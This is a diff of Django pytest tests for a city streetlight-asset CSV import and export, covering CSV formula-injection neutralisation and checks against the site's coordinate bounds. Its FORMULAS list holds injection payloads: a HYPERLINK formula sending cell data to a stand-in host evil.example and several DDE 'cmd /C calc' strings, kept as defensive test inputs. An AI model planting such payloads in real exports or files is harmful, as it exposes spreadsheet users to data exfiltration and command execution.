@@ -1,15 +1,19 @@
 """The CSV import: every bad row reported with its line and reason, nothing written unless all
 rows are valid (or valid rows only are asked for), audited; the API endpoint and the command."""
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
 
+from cityplatform.csvsafe import PLAIN_NUMBER
 from cityplatform.models import AuditEntry
 from cityplatform.roles import Role
 from devices.models import Asset, CameraLight, StreetlightDetails
 from devices.services.asset_import import ImportFileError, assets_import
-from tests.devices.registry_factories import make_light, make_zone
+from tests.devices.registry_factories import make_light, make_zone, metres_north
 
 pytestmark = pytest.mark.django_db
 
@@ -194,3 +198,121 @@ def test_export_then_import_round_trips(make_user, api_client, registry):
     report = assets_import(data=exported, actor="anna")
     assert report.errors == [] and report.created == 6
     assert Asset.objects.get(device_id="SL-1").streetlight.controller.device_id == "CTL-1"
+
+
+# --- CSV injection (issue #14, item 16) and the site's bounds (item 17) -------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''",
+]
+
+
+def _formula_city():
+    """Assets whose text fields hold formulas (through the service: the API trims whitespace,
+    the admin and an earlier import did not)."""
+    zone = make_zone("=Zone(1)", -0.0920, 51.5150, 0.005, kind="ward")
+    for i, text in enumerate(FORMULAS):
+        make_light(
+            f"SL-F{i}",
+            51.5150 + i / 10_000,
+            -0.0920,
+            name=text,
+            manufacturer=text,
+            serial="'t Hooft",
+            attributes={"note": text},
+            details={"rated_power_w": 42.5},
+        )
+    return zone
+
+
+def _fields(asset):
+    return (
+        asset.kind,
+        asset.name,
+        asset.latitude,
+        asset.longitude,
+        asset.zone_id,
+        asset.status,
+        asset.manufacturer,
+        asset.model,
+        asset.serial,
+        asset.attributes,
+        asset.streetlight.rated_power_w,
+    )
+
+
+def _exports(client):
+    api = client.get("/api/v1/assets/export.csv")
+    page = client.get("/assets/export.csv")
+    assert api.status_code == page.status_code == 200
+    return [b"".join(r.streaming_content).decode() for r in (api, page)]
+
+
+def test_the_exports_neutralise_formulas_and_an_import_gives_the_same_assets(make_user, client):
+    """Given assets whose text is a spreadsheet formula, both exports (API and page) write no
+    cell a spreadsheet would run, and importing the export gives back identical assets."""
+    _formula_city()
+    client.force_login(make_user(Role.ASSET_MANAGER))
+    before = {a.device_id: _fields(a) for a in Asset.objects.select_related("streetlight")}
+    for exported in _exports(client):
+        cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        dangerous += [c for c in cells if c[:1] == "-" and not PLAIN_NUMBER.fullmatch(c)]
+        assert dangerous == []
+        assert "'=HYPERLINK(" in exported and "'\t=1+1" in exported
+        assert "-0.092" in exported  # a negative number stays a number
+        Asset.objects.all().delete()
+        report = assets_import(data=exported, actor="anna")
+        assert report.errors == [] and report.created == len(FORMULAS)
+        after = {a.device_id: _fields(a) for a in Asset.objects.select_related("streetlight")}
+        assert after == before
+
+
+def test_a_quoted_negative_number_imports_as_the_number(registry):
+    """A spreadsheet that saved a longitude as text ('-0.0920) still gives the number."""
+    row = "SL-Q,streetlight,Quoted,51.5150,'-0.0920,,,,,,,,,"
+    report = assets_import(data=csv_of([row]), actor="anna")
+    assert report.errors == []
+    assert Asset.objects.get(device_id="SL-Q").longitude == -0.092
+
+
+def test_a_row_with_latitude_and_longitude_swapped_is_a_row_error_naming_the_bounds(registry):
+    """-0.1052,51.514 (swapped) is WGS84-valid but far outside the city's zones."""
+    rows = ["SL-S,streetlight,Swapped,-0.1052,51.514,,,,,,,,,", *GOOD]
+    report = assets_import(data=csv_of(rows), actor="anna")
+    assert [e.line for e in report.errors] == [2] and not report.written
+    problem = report.errors[0].errors["coordinates"]
+    assert "outside the site's bounds" in problem and "swapped" in problem
+    assert "latitude 51.4" in problem  # the bounds themselves are named
+    assert not Asset.objects.filter(device_id="SL-S").exists()
+
+
+def test_a_row_just_outside_the_zones_within_the_margin_is_accepted(registry):
+    """The margin (SITE_BOUNDS_MARGIN_M, 5 km) leaves room for assets at the city's edge."""
+    lat = metres_north(51.5150 + 0.005, 4000)
+    report = assets_import(
+        data=csv_of([f"SL-E,streetlight,Edge,{lat},-0.0920,,,,,,,,,"]), actor="anna"
+    )
+    assert report.errors == [] and report.created == 1
+
+
+def test_the_api_refuses_an_asset_outside_the_site(make_user, api_client, registry):
+    client = api_client(make_user(Role.ASSET_MANAGER))
+    body = {"device_id": "SL-X", "kind": "streetlight", "latitude": -0.1052, "longitude": 51.514}
+    response = client.post("/api/v1/assets/", body, format="json")
+    assert response.status_code == 400, response.content
+    assert "outside the site's bounds" in response.json()["extra"]["fields"]["latitude"][0]
+    assert not Asset.objects.filter(device_id="SL-X").exists()
+    # moving a registered asset out of the site is refused the same way
+    response = client.patch(
+        "/api/v1/assets/SL-EXISTS/", {"latitude": 0.0, "longitude": 0.0}, format="json"
+    )
+    assert response.status_code == 400
+    assert Asset.objects.get(device_id="SL-EXISTS").latitude == 51.50
